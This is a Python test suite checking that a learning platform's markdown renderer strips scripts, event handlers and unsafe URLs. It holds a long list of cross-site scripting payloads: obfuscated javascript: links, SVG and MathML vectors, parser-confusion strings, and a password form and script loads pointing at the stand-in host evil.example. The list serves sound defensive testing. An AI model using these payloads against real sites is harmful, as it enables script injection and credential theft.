"""Hostile input never reaches a learner: no scripts, handlers, styles, unsafe URLs or foreign tags.

The allowlist below is written out independently of literacy.content.render, so a change to the
renderer's allowlist has to be argued for here too.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from literacy.content import parse_module, render_inline, render_markdown

IMAGE_PREFIX = "/modules/m/images/"

ALLOWED_TAGS = {
    "p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "code", "pre", "blockquote",
    "ul", "ol", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td", "a", "img", "sup", "sub",
    "div", "span", "section", "abbr", "details", "summary",
}
ID_CLASS = {"id", "class"}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "id", "class", "rel"},
    "img": {"src", "alt", "title", "width", "height"},
    "th": {"align", "colspan", "rowspan", "scope"},
    "td": {"align", "colspan", "rowspan", "scope"},
    "abbr": {"title"},
    "div": ID_CLASS | {"data-check"},
    **{tag: ID_CLASS for tag in ("section", "span", "h2", "h3", "h4", "h5", "h6", "li", "sup", "ol", "p")},
}
FORBIDDEN_TAGS = {"script", "style", "svg", "iframe", "math", "object", "embed", "form", "meta", "base", "link"}
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u00ad\u200b-\u200f\u2028\u2029\u2060\ufeff]")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.IGNORECASE)


class Inspector(HTMLParser):
    """Collects every way the HTML could run code or load something it should not."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.failures: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS or tag in FORBIDDEN_TAGS:
            self.failures.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.failures.append(f"attribute {name} on <{tag}>")
            if name not in ALLOWED_ATTRIBUTES.get(tag, set()):
                self.failures.append(f"attribute {name} not allowed on <{tag}>")
            if name in ("href", "src"):
                self.check_url(tag, name, value or "")

    handle_startendtag = handle_starttag

    def check_url(self, tag: str, name: str, value: str) -> None:
        url = _INVISIBLE.sub("", value)  # the parser already unescaped entities
        match = _SCHEME.match(url)
        if name == "src":
            if not url.startswith(IMAGE_PREFIX) or match:
                self.failures.append(f"src {value!r}")
        elif match and match.group(1).lower() not in ("http", "https", "mailto"):
            self.failures.append(f"href {value!r}")


def inspect(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.failures


def render(text: str) -> str:
    rendered = render_markdown(text, image_url=lambda name: f"{IMAGE_PREFIX}{name}",
                               glossary_url=lambda term: f"/glossary#{term}", known_terms=None)
    return rendered.html + rendered.toc_html


HOSTILE = [
    # scripts and styles
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<style>body { display: none }</style>",
    "<STYLE>@import 'https://evil.example/x.css';</STYLE>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    # event handlers in several casings
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="images/a.png" ONERROR="alert(1)" alt="a">',
    '<p onclick="steal()">hi</p>',
    '<p OnClIcK="steal()">hi</p>',
    "<body onload=alert(1)>",
    '<a href="#x" onmouseover="alert(1)">x</a>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<div onfocus="alert(1)" tabindex=1 autofocus>x</div>',
    # javascript: URLs, disguised
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="javascript&colon;alert(1)">x</a>',
    # data: and vbscript:
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    # SVG and MathML
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    # frames, plugins, forms, meta, base
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf" type="application/x-shockwave-flash"></object>',
    '<embed src="x.swf">',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    # styles and odd attributes
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<span class="x" style="color:red">x</span>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
    # malformed HTML
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=images/a.png alt=ok onerror=alert(1)",
    "<p><b>unclosed <i>tags",
    '<a href="javascript:alert(1)"',
    "<<script>script>alert(1)<</script>/script>",
    '<img """><script>alert(1)</script>">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    '<div data-check="q1" data-x="y">forged</div>',
    # raw HTML blocks inside markdown
    "Text\n\n<div>\n<script>alert(1)</script>\n</div>\n\nMore",
    "<details>\n<summary>x</summary>\n\n<img src=x onerror=alert(1)>\n\n</details>",
    "!!! note\n    <script>alert(1)</script>",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "Term\n:   <a href='javascript:alert(1)'>x</a>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    # markdown link and image syntax with hostile URLs
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAA)",
    "![x](https://evil.example/track.png)",
    "![x](images/../../secret.png)",
    '![x](images/a.png" onerror="alert(1))',
    "<javascript:alert(1)>",
    "[x](glossary:javascript:alert(1))",
    "[x](glossary:ok-term)",
    "# Heading <script>alert(1)</script>",
    '## A heading with <img src=x onerror=alert(1)> inside',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_input_is_neutralised(text: str) -> None:
    html = render(text)
    assert inspect(html) == [], html
    assert "<script" not in html.lower()  # (escaped text such as &lt;script is harmless)


def test_script_and_style_content_does_not_leak_as_text() -> None:
    html = render("Before <script>alert('x')</script> <style>p{}</style> after")
    assert "alert" not in html and "p{}" not in html
    assert "Before" in html and "after" in html


def test_allowed_markup_survives() -> None:
    html = render('A <abbr title="Artificial intelligence">AI</abbr> and H<sub>2</sub>O and x<sup>2</sup>.\n\n'
                  '<details><summary>More</summary>Hidden</details>')
    assert '<abbr title="Artificial intelligence">AI</abbr>' in html
    assert "<sub>2</sub>" in html and "<sup>2</sup>" in html
    assert "<details><summary>More</summary>Hidden</details>" in html


def test_urls_that_are_kept() -> None:
    html = render("[a](https://gov.uk/x) [b](http://example.org) [c](mailto:ai@example.gov.uk) [d](#section) "
                  "[e](../other-lesson) [f](images/a.png) ![g](images/a.png)")
    assert '<a href="https://gov.uk/x" rel="noopener noreferrer">a</a>' in html
    assert '<a href="http://example.org" rel="noopener noreferrer">b</a>' in html
    assert '<a href="mailto:ai@example.gov.uk">c</a>' in html
    assert '<a href="#section">d</a>' in html and '<a href="../other-lesson">e</a>' in html
    assert f'<a href="{IMAGE_PREFIX}a.png">f</a>' in html and f'src="{IMAGE_PREFIX}a.png"' in html


def test_author_rel_and_target_are_replaced() -> None:
    html = render('<a href="https://ok.example" target="_blank" rel="opener">x</a>')
    assert html == '<p><a href="https://ok.example" rel="noopener noreferrer">x</a></p>'


def test_classes_are_limited_to_the_renderers_own() -> None:
    html = render('<div class="admonition note button hidden">x</div><span class="sr-only">y</span>')
    assert '<div class="admonition note">' in html and "<span>y</span>" in html


def test_inline_rendering_is_sanitized_too() -> None:
    assert render_inline("<b onclick=x>bold</b> [x](javascript:alert(1))").html == "<b>bold</b> <a>x</a>"


def test_a_whole_module_is_sanitized() -> None:
    hostile = "\n\n".join(HOSTILE[:20])
    files = {
        "module.yaml": b"slug: m\ntitle: M\nsummary: S\naudience: A\nlevel: introductory\nedition: 1\n"
                       b"language: en\npass_mark: 50\noutcomes: [x]\nlessons: [l]\n",
        "l.md": f"---\ntitle: L\nminutes: 1\n---\n{hostile}\n".encode(),
        "images/a.png": b"\x89PNG\r\n\x1a\n",
        "quiz.md": (b"::: question q\ntype: single\n\n<script>alert(1)</script> Pick [x](javascript:x).\n\n"
                    b"- [x] <img src=x onerror=alert(1)>Yes\n  > <iframe src=x></iframe>Right\n- [ ] No\n\n"
                    b"Explanation:\n<svg onload=alert(1)>Because</svg>\n:::\n"),
    }
    result = parse_module(files, label="m")
    # The pictures that are not in images/ are problems; everything else is simply removed.
    assert result.problems and all("picture" in p.message for p in result.problems)
    files["l.md"] = f"---\ntitle: L\nminutes: 1\n---\n{hostile}\n".replace("<img", "<i").encode()
    files["quiz.md"] = files["quiz.md"].replace(b"<img", b"<i")
    result = parse_module(files, label="m")
    assert result.module is not None, result.problems
    question = result.module.quiz.questions[0]  # type: ignore[union-attr]
    for html in (result.module.lessons[0].primary.html, question.prompt_html, question.options[0].html,
                 question.options[0].feedback_html, question.explanation_html):
        assert inspect(html) == []
        assert "<script" not in html and 'href="javascript' not in html


FRAGMENTS = st.sampled_from(HOSTILE + [
    "\n", "\n\n", "    ", "# ", "## ", "- ", "1. ", "> ", "**", "_", "`", "```\n", "|", "---\n", "!!! note\n    ",
    "[", "]", "(", ")", "<", ">", "\"", "'", "&", "&#", ";", "=", "/", "javascript:", "images/", "glossary:",
    "<a href=", "<img src=", " on", "error=", "<div ", "style=", "data:", "\t", "\x00", "\u200b", "[^1]", "::: ",
])
TEXT = st.lists(st.one_of(FRAGMENTS, st.text(max_size=12)), max_size=10).map("".join)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(TEXT)
def test_rendered_output_never_holds_an_executable_construct(text: str) -> None:
    html = render(text)
    assert inspect(html) == [], (text, html)
